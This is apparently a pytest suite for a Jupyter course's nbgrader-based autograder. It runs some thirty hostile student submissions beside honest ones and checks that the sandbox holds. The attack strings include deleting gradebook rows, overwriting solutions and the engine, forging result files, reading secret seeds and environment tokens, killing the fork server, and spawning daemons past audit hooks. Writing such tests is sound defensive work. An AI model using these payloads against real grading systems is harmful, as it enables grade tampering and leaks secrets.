"""Hostile submissions graded by real ``nbgrader autograde``, next to honest students.

A temporary course (hw1 released with ``nbgrader generate_assignment``) holds its own
copy of ``convlib/`` (``PYTHONPATH`` points at the course, so an attack that writes to
``convlib/grading/*.py`` targets the copy, never this repository), a secret seed (in
``.grading_seed`` and in the environment), a signing key and a JupyterHub token in the
environment. Two plain ``nbgrader autograde hw1`` runs:

1. honest students only; every file of the course and every gradebook row is recorded;
2. one submission per attack, plus two more honest students, in a new session; then
   ``nbgrader generate_feedback hw1 --force`` for everyone.

Each attack is a submission that is correct apart from the attack (extra top-level
cells, or a changed ``poly_multiply``). The tests assert, per attack, its exact scores
in the gradebook and its flag in the autograded notebook and the feedback; and for the
whole run, the honest students' exact grades, that every file and gradebook row of
run 1 is unchanged, that nothing started by the run is still alive, that nothing secret
is in any feedback and that a listener on the host's 127.0.0.1 received nothing.

The engine-level tests at the end (a stopped or killed fork server, grading under load,
the refusal of a missing OS layer) drive :class:`~convlib.grading.engine.Grader` directly.
"""
from __future__ import annotations

import hashlib
import html
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, Callable

import nbformat
import pytest

from convlib.grading.engine import WITHHELD, Grader, IsolationUnavailable, isolation_level, student_cells
from convlib.grading.gradebook import database_url, gradebook_rows

sys.path.insert(0, str(Path(__file__).parent))
sys.path.insert(0, str(Path(__file__).parent / "submissions"))
import hw1_submissions as subs  # noqa: E402
from _homework import nbgrader_env  # noqa: E402

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[1]
RELEASE = nbformat.read(str(ROOT / "exercises" / "hw1" / "hw1.ipynb"), as_version=4)
FULL = dict(subs.POINTS)
WITHHELD_ALL = dict.fromkeys(FULL, 0.0)

# secrets: none of them may ever reach a feedback page
SEED = "918273645501"
HUB_TOKEN = "hubtok-3f9c2a7e51d84b06"  # what JupyterHub puts in a grader's environment
SIGNING_KEY = "sigkey-8e1d4c7a20b95f36"  # the result store's key (CONVLIB_GRADING_KEY)
HIDDEN_SOURCES = ("default_rng", "_cases(", "BEGIN HIDDEN", "reference_convolve")
SECRETS = (SEED, HUB_TOKEN, SIGNING_KEY, *HIDDEN_SOURCES)
MARK = "600.25"  # in the command line of every process an attacker starts
REFUSED = "is not available during grading (flagged for review)"
LEVEL = os.environ.get("CONVLIB_GRADING_ISOLATION", "os")  # set by conftest.py: "os" wherever available
BROKE_DOWN = "the grading sandbox broke down"

# in the attacks' sources: @COURSE@ is the temporary course's absolute path, @PORT@ the listener's port
Build = Callable[[], nbformat.NotebookNode]


def _correct() -> nbformat.NotebookNode:
    return subs.build(RELEASE, "correct")


def _cells(*sources: str) -> Callable[[str, int], nbformat.NotebookNode]:
    """The correct submission plus top-level cells at the end."""
    def build(course: str, port: int) -> nbformat.NotebookNode:
        nb = _correct()
        for source in sources:
            nb.cells.append(nbformat.v4.new_code_cell(source.replace("@COURSE@", course).replace("@PORT@", str(port))))
        return nb
    return build


def _poly(source: str) -> Callable[[str, int], nbformat.NotebookNode]:
    """The correct submission with poly_multiply's solution cell replaced."""
    def build(course: str, port: int) -> nbformat.NotebookNode:
        return subs.fill(RELEASE, {**subs.CORRECT, "poly_multiply": source.replace("@COURSE@", course)})
    return build


class Attack:
    """A hostile submission and what it must get.

    ``scores``: function -> points in the gradebook; ``flag``: a reason the notebook is
    withheld for review ("withheld: flagged for review" on every function), or ``None``
    for no flag; ``label``: a label poly_multiply's feedback must name; ``error``: text
    the attacker's own cell error must hold (its attack failed and it was told why).
    """

    def __init__(self, build, scores: dict[str, float], flag: str | None = None, *,
                 label: str | None = None, error: str | None = None,
                 process: dict[str, Any] | None = None) -> None:
        self.build, self.scores, self.flag, self.label, self.error = build, scores, flag, label, error
        if LEVEL == "process" and process:  # what the "process" level gives instead
            for name, value in process.items():
                setattr(self, name, value)


# the processes whose environment or command line names the course (never anything else of this machine)
_COURSE_PROCESSES = '''
import os
def course_processes():
    found = []
    for pid in os.listdir('/proc'):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f'/proc/{pid}/environ', 'rb') as a, open(f'/proc/{pid}/cmdline', 'rb') as b:
                    if b'@COURSE@' in a.read() + b.read():
                        found.append(int(pid))
            except OSError:
                pass
    return found
'''
_KILL_COURSE_PROCESSES = _COURSE_PROCESSES + '''
for pid in course_processes():
    try:
        os.kill(pid, 9)
    except OSError:
        pass
'''

ATTACKS = {
    # --- reaching the graded function's originals or the grader's memory (the Python layer)
    "reads_memory_with_gc": Attack(_cells("import gc\nstuff = [o for o in gc.get_objects()]\n"),
                                   WITHHELD_ALL, "get_objects"),
    "takes_original_from_guard_closure": Attack(_poly(
        "import numpy as np\n_orig = [c.cell_contents for c in (getattr(np.convolve, '__clo' + 'sure__') or ())]\n"
        "def poly_multiply(p, q):\n    return np.convolve(p, q)\n"), WITHHELD_ALL, "cell_contents"),
    "disarms_guard_state": Attack(_poly(
        "import numpy as np\nfrom convlib.grading import _forbidden as f\nf.GuardState.report = None\n"
        "def poly_multiply(p, q):\n    return np.convolve(p, q)\n"), WITHHELD_ALL, "GuardState"),
    "calls_from_a_thread": Attack(_poly(
        "import numpy as np\nimport threading\ndef poly_multiply(p, q):\n    out = []\n"
        "    t = threading.Thread(target=lambda: out.append(np.convolve(p, q)))\n    t.start(); t.join()\n"
        "    return out[0]\n"), WITHHELD_ALL, "import threading"),
    "reloads_numpy": Attack(_cells("import importlib, numpy\nimportlib.reload(numpy)\n"),
                            WITHHELD_ALL, "import importlib"),
    "private_alias_of_correlate": Attack(_poly(
        "import numpy as np\ndef poly_multiply(p, q):\n    return np._core.multiarray.correlate2(p, q[::-1], 2)\n"),
        WITHHELD_ALL, "np._core"),
    "torch_vf_alias": Attack(_poly(
        "import numpy as np\nimport torch\ndef poly_multiply(p, q):\n"
        "    x = torch.tensor(np.asarray(p, float)).reshape(1, 1, -1)\n"
        "    w = torch.tensor(np.asarray(q, float)[::-1].copy()).reshape(1, 1, -1)\n"
        "    return torch._VF.conv1d(x, w, None, [1], [len(q) - 1], [1], 1).reshape(-1).numpy()\n"),
        WITHHELD_ALL, "torch._VF"),
    "captures_scipy_signal_at_top_level": Attack(_poly(
        "import scipy.signal\nconv = getattr(scipy.signal, 'con' + 'volve')\n"
        "def poly_multiply(p, q):\n    return conv(p, q)\n"), {**FULL, "poly_multiply": 0.0}, label="forbidden call"),
    "reads_grader_frames": Attack(_poly(
        "import sys\ndef poly_multiply(p, q):\n    f = sys._getframe(1)\n    return list(f.f_locals)\n"),
        WITHHELD_ALL, "_getframe"),
    # --- the course's files and the gradebook (the OS layer: the course root is not visible)
    "edits_the_gradebook": Attack(_cells(
        "import sqlite3\ndb = sqlite3.connect('@COURSE@/gradebook.db')\n"
        "db.execute('delete from grade')\ndb.commit()\n"), WITHHELD_ALL, "import sqlite3"),
    "overwrites_another_submission": Attack(_cells(
        "open('@COURSE@/submitted/correct/hw1/hw1.ipynb', 'w').write('{}')\n"),
        WITHHELD_ALL, "course/submitted/correct/hw1/hw1.ipynb", error=REFUSED),
    "overwrites_the_solution": Attack(_cells(
        "open('@COURSE@/solutions/hw1/hw1.ipynb', 'w').write('{}')\n"),
        WITHHELD_ALL, "course/solutions/hw1/hw1.ipynb", error=REFUSED),
    "overwrites_nbgrader_config": Attack(_cells(
        "open('@COURSE@/nbgrader_config.py', 'a').write('\\nc.Autograde.autograde_preprocessors = []\\n')\n"),
        WITHHELD_ALL, "course/nbgrader_config.py", error=REFUSED),
    "overwrites_the_engine": Attack(_cells(
        "import os, convlib\n"
        "engine = os.path.join(os.path.dirname(convlib.__file__), 'grading', 'engine.py')\n"
        "assert engine.startswith('@COURSE@/'), engine\n"
        "open(engine, 'a').write('\\nWITHHELD = \"full marks\"\\n')\n"),
        WITHHELD_ALL, "course/convlib/grading/engine.py", error=REFUSED),
    "forges_a_result": Attack(_cells(
        "import json, os\nfolder = '@COURSE@/grading_results/hw1/z_honest_circular'\n"
        "try:\n    os.makedirs(folder, exist_ok=True)\nexcept OSError:\n    pass\n"
        "open(folder + '/hw1.json', 'w').write(json.dumps({'payload': {'key': 'x', 'result': {'functions': {}}},"
        " 'signature': '0' * 64}))\n"), WITHHELD_ALL, "grading_results/hw1/z_honest_circular/hw1.json", error=REFUSED),
    "fakes_an_in_progress_marker": Attack(_cells(
        "import json\nopen('@COURSE@/grading_results/hw1/.in_progress.json', 'w').write(json.dumps("
        "{'payload': {'pid': 1, 'start': None, 'keys': {}}, 'signature': '0' * 64}))\n"),
        WITHHELD_ALL, "grading_results/hw1/.in_progress.json", error=REFUSED),
    "reads_the_secret_seed": Attack(_cells("print(open('@COURSE@/.grading_seed').read())\n"),
                                    WITHHELD_ALL, ".grading_seed"),
    "prints_environ_and_the_seed": Attack(_cells(
        "import os\nprint(dict(os.environ))\nprint(open('/proc/self/environ', 'rb').read())\n",
        "import os\nraise RuntimeError(repr({k: v for k, v in os.environ.items() "
        "if any(w in k for w in ('TOKEN', 'KEY', 'SEED', 'SECRET', 'PASS', 'DB'))}))\n",
        "raise RuntimeError(open('@COURSE@/.grading_seed').read())\n"), WITHHELD_ALL, ".grading_seed"),
    "leaks_environ_through_its_function": Attack(_poly(
        "import os\ndef poly_multiply(p, q):\n"
        "    raise ValueError(repr({k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k}))\n"),
        {**FULL, "poly_multiply": 0.0}),
    "sends_to_localhost": Attack(_cells(
        "import socket\ns = socket.create_connection(('127.0.0.1', @PORT@))\ns.sendall(b'secret')\n"),
        WITHHELD_ALL, "import socket"),
    # --- the fork server and the grading processes
    "kills_the_fork_server": Attack(_cells("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"),
                                    WITHHELD_ALL, "import signal"),
    "writes_into_the_server_stdout": Attack(_cells(_COURSE_PROCESSES + (  # its parent, and the course's processes
        "for pid in [os.getppid(), 'self', *course_processes()]:\n"
        "    try:\n        with open(f'/proc/{pid}/fd/1', 'wb') as out:\n"
        "            out.write(b'\\x00\\x00\\x10\\x00' + b'{\"job\": 1, \"kind\": \"result\"}' * 64)\n"
        "    except OSError:\n        pass\n")), FULL,
        # without the OS layer the child reaches the server's stdout: the garbled server is
        # restarted, the attacker's job re-run once, then "not graded" (others are unaffected)
        process={"scores": WITHHELD_ALL, "label": BROKE_DOWN}),
    "kills_every_grading_process": Attack(_cells(_KILL_COURSE_PROCESSES), FULL,
                                          process={"scores": WITHHELD_ALL, "flag": "os.kill"}),
    "limits_the_grader": Attack(_cells(
        "import os, resource\nresource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3))\n"),
        WITHHELD_ALL, "import resource"),
    # --- processes that outlive grading, and resources
    "forks_many_processes": Attack(_cells(
        "import os\nfor _ in range(200):\n    if os.fork() == 0:\n        import time; time.sleep(600.25)\n"),
        WITHHELD_ALL, "os.fork"),
    "spawns_a_daemon": Attack(_cells(
        f"import os\nos.posix_spawn('/bin/sleep', ['sleep', '{MARK}'], dict(os.environ))\n"),
        WITHHELD_ALL, "os.posix_spawn"),
    "spawns_a_daemon_past_the_audit_hook": Attack(_cells(  # no audit event (Python 3.11): the PID namespace
        # ends it at the "os" level, the fork server (a child subreaper) kills it at the "process" level
        "import os, _posixsubprocess\nr, w = os.pipe()\n"
        f"_posixsubprocess.fork_exec([b'/bin/sleep', b'{MARK}'], [b'/bin/sleep'], True, (w,), None, None,"
        " -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, -1, -1, None, False)\n"),
        WITHHELD_ALL, "_posixsubprocess"),
    "pty_fork_daemon": Attack(_cells(
        f"import os, pty\npid, fd = pty.fork()\nif pid == 0:\n    os.execv('/bin/sleep', ['sleep', '{MARK}'])\n"),
        WITHHELD_ALL, "import pty"),
    "daemon_edits_the_gradebook_later": Attack(_cells(
        "import os, sys\ncode = ('import sqlite3, time\\n'\n"
        f"        'time.sleep({MARK} / 200)\\n'\n"
        "        'db = sqlite3.connect(\"@COURSE@/gradebook.db\")\\n'\n"
        "        'db.execute(\"update grade set auto_score = 0\")\\n'\n"
        "        'db.commit()\\n')\n"
        "os.posix_spawn(sys.executable, [sys.executable, '-c', code], {})\n"), WITHHELD_ALL, "os.posix_spawn"),
    "maps_shared_memory": Attack(_cells(
        "import mmap\nm = mmap.mmap(-1, 1300 * 2**20)\nm[::4096] = b'x' * (1300 * 256)\n"),
        WITHHELD_ALL, "import mmap"),
    "sleeps_at_top_level": Attack(_cells("import time\ntime.sleep(3600)\n"), FULL, error="asleep"),
}


# graded in run 1 (the snapshot), then never again
HONEST_FIRST = {
    "correct": _correct,
    "kernel_not_flipped": lambda: subs.build(RELEASE, "kernel_not_flipped"),
    "imports_scipy_signal_to_compare": lambda: _cells(
        "import scipy.signal\nimport numpy as np\nprint(np.allclose(convolve_full([1, 2], [1, 1]), [1, 3, 2]))\n")("", 0),
    "times_its_cell": lambda: subs.fill(RELEASE, {**subs.CORRECT, "poly_multiply": "%%time\n" + subs.CORRECT["poly_multiply"]}),
}
# graded in run 2 beside the attackers (nbgrader grades in the order of the student ids:
# one in the middle of the attackers, one after all of them)
HONEST_BESIDE = {
    "honest_correct": _correct,
    "z_honest_circular": lambda: subs.build(RELEASE, "circular"),
}
HONEST_AS = {"correct": "correct", "kernel_not_flipped": "kernel_not_flipped",
             "imports_scipy_signal_to_compare": "correct", "times_its_cell": "correct",
             "honest_correct": "correct", "z_honest_circular": "circular"}


def _write(course: Path, student: str, nb: nbformat.NotebookNode) -> None:
    folder = course / "submitted" / student / "hw1"
    folder.mkdir(parents=True)
    nbformat.write(nb, str(folder / "hw1.ipynb"))


def _run(course: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess:
    result = subprocess.run([sys.executable, "-m", "nbgrader", *args, f"--CourseDirectory.root={course}"],
                            cwd=course, env=env, capture_output=True, text=True, timeout=1200,
                            start_new_session=True)
    if result.returncode != 0:
        raise AssertionError(f"nbgrader {args} failed:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}")
    return result


def _files(course: Path) -> dict[str, str]:
    """sha256 of every file of the course, by path relative to it (the gradebook aside)."""
    digests = {}
    for path in sorted(course.rglob("*")):
        relative = path.relative_to(course).as_posix()
        if path.is_file() and not relative.startswith("gradebook.db"):
            digests[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


def _tables(course: Path) -> dict[str, set[tuple]]:
    """Every row of every table of the SQLite gradebook."""
    with sqlite3.connect(f"file:{course / 'gradebook.db'}?mode=ro", uri=True) as db:
        names = [row[0] for row in db.execute("select name from sqlite_master where type = 'table'")]
        return {name: set(db.execute(f'select * from "{name}"')) for name in names}


def _environ(pid: int) -> bytes:
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def _cmdline(pid: int) -> bytes:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read().replace(b"\0", b" ")
    except OSError:
        return b""


def _session(pid: int) -> int | None:
    try:
        return int(Path(f"/proc/{pid}/stat").read_bytes().rsplit(b")", 1)[1].split()[3])
    except (OSError, IndexError, ValueError):
        return None


def _survivors(session: int, course: Path) -> list[str]:
    """Processes of ``session``, or started for ``course``, or by an attacker (``MARK``)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        pid = int(entry)
        cmdline = _cmdline(pid)
        if (_session(pid) == session or MARK.encode() in cmdline
                or f"PYTHONPATH={course}\0".encode() in _environ(pid)):
            found.append(f"{pid}: {cmdline[:200]!r}")
    return found


class Graded:
    """What the two runs left."""

    course: Path
    first_files: dict[str, str]
    first_tables: dict[str, set[tuple]]
    first_rows: dict[str, Any]
    rows: dict[str, Any]
    files: dict[str, str]
    tables: dict[str, set[tuple]]
    survivors: list[str]
    received: list[bytes]
    seconds: dict[str, float]
    cases: dict[str, Any]


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Graded:
    out = Graded()
    course = out.course = tmp_path_factory.mktemp("escape") / "course"
    (course / "solutions").mkdir(parents=True)
    shutil.copy(ROOT / "nbgrader_config.py", course)
    shutil.copytree(ROOT / "solutions" / "hw1", course / "solutions" / "hw1")
    shutil.copytree(ROOT / "convlib", course / "convlib", ignore=shutil.ignore_patterns("__pycache__"))
    (course / ".grading_seed").write_text(SEED + "\n")
    env = nbgrader_env(course, seed=SEED, JUPYTERHUB_API_TOKEN=HUB_TOKEN, CONVLIB_GRADING_KEY=SIGNING_KEY,
                       PYTHONDONTWRITEBYTECODE="1")
    where = subprocess.run([sys.executable, "-c", "import convlib; print(convlib.__file__)"], cwd=course, env=env,
                           capture_output=True, text=True, check=True).stdout.strip()
    assert where == str(course / "convlib" / "__init__.py"), "the course must grade with its own convlib"
    _run(course, env, "generate_assignment", "hw1", "--force")
    shutil.rmtree(course / "exercises" / "hw1" / ".ipynb_checkpoints", ignore_errors=True)

    for student, build in HONEST_FIRST.items():
        _write(course, student, build())
    started = time.monotonic()
    _run(course, env, "autograde", "hw1")
    out.seconds = {"run 1": time.monotonic() - started}
    out.first_files, out.first_tables = _files(course), _tables(course)
    out.first_rows = gradebook_rows(database_url(course, environ={}), "hw1")

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        for student, attack in ATTACKS.items():
            _write(course, student, attack.build(str(course), port))
        for student, build in HONEST_BESIDE.items():
            _write(course, student, build())
        started = time.monotonic()
        log = course.parent / "autograde.log"  # a file, not a pipe: a surviving daemon may hold it open
        with open(log, "wb") as handle:
            process = subprocess.Popen([sys.executable, "-m", "nbgrader", "autograde", "hw1",
                                        f"--CourseDirectory.root={course}"], cwd=course, env=env,
                                       stdout=handle, stderr=subprocess.STDOUT, start_new_session=True)
            process.wait(timeout=1200)
        out.seconds["run 2"] = time.monotonic() - started
        assert process.returncode == 0, log.read_text(errors="replace")[-5000:]
        time.sleep(MARK_WAIT)  # a daemon that outlived grading would act now
        out.survivors = _survivors(process.pid, course)
        for line in out.survivors:  # recorded for the test; not left running
            try:
                os.kill(int(line.split(":")[0]), 9)
            except ProcessLookupError:
                pass
        started = time.monotonic()
        _run(course, env, "generate_feedback", "hw1", "--force")
        out.seconds["feedback"] = time.monotonic() - started
        out.received = []
        while True:
            try:
                connection, _ = listener.accept()
            except BlockingIOError:
                break
            connection.settimeout(5)
            out.received.append(connection.recv(4096))
            connection.close()
    finally:
        listener.close()
    out.files, out.tables = _files(course), _tables(course)
    out.rows = gradebook_rows(database_url(course, environ={}), "hw1")
    out.cases = Grader("hw1", seed=int(SEED)).cases
    print(f"escape suite timings: {out.seconds}")
    return out


MARK_WAIT = float(MARK) / 200 + 2  # longer than the gradebook-editing daemon waits


def _scores(rows: dict[str, Any], student: str) -> dict[str, float]:
    grades = rows[student]["notebooks"]["hw1"]["grades"]
    return {grade_id.removeprefix("test_"): auto for grade_id, (auto, _, _) in grades.items()}


def _autograded(course: Path, student: str) -> nbformat.NotebookNode:
    return nbformat.read(str(course / "autograded" / student / "hw1" / "hw1.ipynb"), as_version=4)


def _test_outputs(nb: nbformat.NotebookNode) -> dict[str, str]:
    """grade_id -> the text of its test cell's outputs."""
    texts = {}
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("grade") and not meta.get("solution"):
            texts[meta["grade_id"]] = "".join(o.get("text", "") for o in cell.outputs)
    return texts


def _cell_errors(nb: nbformat.NotebookNode) -> list[str]:
    return [o.get("evalue", "") for cell in nb.cells if cell.cell_type == "code"
            for o in cell.get("outputs", []) if o.output_type == "error"]


def _feedback(course: Path, student: str) -> str:
    return (course / "feedback" / student / "hw1" / "hw1.html").read_text()


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_attack_gets_exact_score_and_flag(graded, attack):
    expected = ATTACKS[attack]
    assert _scores(graded.rows, attack) == expected.scores
    outputs = _test_outputs(_autograded(graded.course, attack))
    feedback = _feedback(graded.course, attack)
    errors = _cell_errors(_autograded(graded.course, attack))
    if expected.flag is not None:
        for grade_id, text in outputs.items():
            assert WITHHELD in text and expected.flag in text, (grade_id, text)
        assert WITHHELD in feedback and html.escape(expected.flag) in feedback
    else:
        assert all(WITHHELD not in text for text in outputs.values()), outputs
        assert WITHHELD not in feedback
    if expected.label is not None:
        assert expected.label in outputs["test_poly_multiply"]
    if expected.error is not None:
        assert any(expected.error in text for text in errors), errors


@pytest.mark.parametrize("student", [*HONEST_FIRST, *HONEST_BESIDE])
def test_honest_students_get_exact_grades_beside_attackers(graded, student):
    want = subs.expected_scores(HONEST_AS[student], graded.cases)
    assert _scores(graded.rows, student) == want
    if student in HONEST_FIRST:
        assert graded.rows[student] == graded.first_rows[student]
    outputs = _test_outputs(_autograded(graded.course, student))
    assert all(WITHHELD not in text for text in outputs.values())
    assert _cell_errors(_autograded(graded.course, student)) == []


def test_run_one_files_and_gradebook_rows_are_unchanged(graded):
    targets = {"nbgrader_config.py", ".grading_seed", "convlib/grading/engine.py", "solutions/hw1/hw1.ipynb",
               "submitted/correct/hw1/hw1.ipynb", "autograded/correct/hw1/hw1.ipynb",
               "grading_results/hw1/correct/hw1.json", "exercises/hw1/hw1.ipynb"}
    assert targets <= set(graded.first_files)  # what the attacks aim at was recorded
    changed = sorted(path for path, digest in graded.first_files.items() if graded.files.get(path) != digest)
    assert changed == []
    graded_now = set(ATTACKS) | set(HONEST_BESIDE)
    for path in sorted(set(graded.files) - set(graded.first_files)):  # new files: only run 2's own
        parts = path.split("/")
        assert (parts[0] == "feedback"
                or parts[0] in ("submitted", "autograded") and parts[1] in graded_now
                or parts[:2] == ["grading_results", "hw1"] and parts[2] in graded_now), path
    for table, rows in graded.first_tables.items():
        assert rows <= graded.tables[table], f"rows of {table} changed or deleted"
    assert set(graded.rows) == set(HONEST_FIRST) | graded_now


def test_nothing_the_run_started_is_still_alive(graded):
    assert graded.survivors == []
    canary = subprocess.Popen(["sleep", MARK], start_new_session=True)  # what a surviving daemon looks like
    try:
        found = _survivors(-1, graded.course)
        assert any(line.startswith(f"{canary.pid}:") for line in found), (canary.pid, _cmdline(canary.pid), found)
    finally:
        canary.kill()
        canary.wait()


def test_nothing_secret_in_any_feedback(graded):
    pages = sorted((graded.course / "feedback").glob("*/hw1/*.html"))
    assert len(pages) == len(graded.rows)
    leaks = [(page.parts[-3], secret) for page in pages for secret in SECRETS if secret in page.read_text()]
    assert leaks == []


def test_nobody_reached_the_hosts_loopback(graded):
    assert graded.received == []


# ----------------------------------------------------------------------------- the engine itself

ENGINE_SEED = 4321


def test_a_stopped_server_is_restarted_and_grades_are_unchanged():
    names = ["correct", "kernel_not_flipped", "kills_kernel"]
    cells = {name: student_cells(subs.build(RELEASE, name)) for name in names}
    with Grader("hw1", workers=2, seed=ENGINE_SEED) as grader:
        quiet = grader.grade_many(cells)
    with Grader("hw1", workers=2, seed=ENGINE_SEED) as grader:
        os.kill(grader.sandbox.pid, 19)  # SIGSTOP: the server no longer answers
        stopped = grader.grade_many(cells)
        assert grader.restarts >= 1
    with Grader("hw1", workers=2, seed=ENGINE_SEED) as grader:
        os.kill(grader.sandbox.pid, 9)  # SIGKILL: the server is gone
        killed = grader.grade_many(cells)
        assert grader.restarts >= 1
    for name in names:
        assert stopped[name].as_dict() == quiet[name].as_dict() == killed[name].as_dict()


def test_grades_do_not_depend_on_load():
    names = ["correct", "kernel_not_flipped", "kills_kernel", "infinite_loop", "syntax_error"]
    cells = {name: student_cells(subs.build(RELEASE, name)) for name in names}
    with Grader("hw1", workers=2, seed=ENGINE_SEED) as grader:
        quiet = grader.grade_many(cells)
    loops = [subprocess.Popen([sys.executable, "-c", "while True: pass"]) for _ in range(4 * (os.cpu_count() or 1))]
    try:
        with Grader("hw1", workers=2, seed=ENGINE_SEED) as grader:
            busy = grader.grade_many(cells)
    finally:
        for loop in loops:
            loop.kill()
            loop.wait()
    for name in names:
        assert busy[name].as_dict() == quiet[name].as_dict(), name


def test_os_isolation_is_refused_where_missing_unless_process_is_chosen(monkeypatch, tmp_path):
    import convlib.grading.engine as engine

    monkeypatch.setitem(sys.modules, "convlib.grading.isolation", None)  # as on a machine without it
    monkeypatch.setattr(engine, "_CHECKED", set())
    with pytest.raises(IsolationUnavailable, match="--isolation=process"):
        isolation_level("os")
    assert isolation_level("process") == "process"
    env = nbgrader_env(ROOT)
    env.pop("CONVLIB_GRADING_ISOLATION", None)
    code = ("import sys; sys.modules['convlib.grading.isolation'] = None\n"
            "from convlib.grading.autograde import main\n"
            "sys.exit(main(['hw1', '--root', sys.argv[1], '--no-nbgrader', '--isolation', 'os']))")
    refused = subprocess.run([sys.executable, "-c", code, str(tmp_path)], env=env, capture_output=True, text=True)
    assert refused.returncode == 2
    assert "refusing to grade" in refused.stderr and "--isolation=process" in refused.stderr
